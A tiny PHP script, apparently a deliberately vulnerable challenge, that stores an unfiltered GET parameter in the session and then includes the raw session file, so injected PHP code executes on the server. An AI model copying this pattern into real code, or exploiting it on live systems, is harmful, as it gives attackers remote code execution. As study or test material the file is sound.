<?php
session_start();
if (isset($_GET['s'])) { $_SESSION['note'] = $_GET['s']; session_write_close(); exit; }
session_write_close();
include session_save_path() . '/sess_' . session_id();
